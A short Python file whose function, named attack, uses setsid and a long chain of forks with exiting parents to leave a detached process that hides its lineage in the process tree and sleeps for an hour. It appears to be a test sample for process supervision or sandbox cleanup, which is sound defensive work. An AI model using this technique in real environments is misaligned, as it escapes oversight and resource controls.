import os
import time


def attack():
    if not os.fork():
        os.setsid()
        # Whoever looks at the tree of processes finds the parent of this one, already gone.
        for _ in range(1000):
            if os.fork():
                os._exit(0)
        time.sleep(3600)
    return "left"
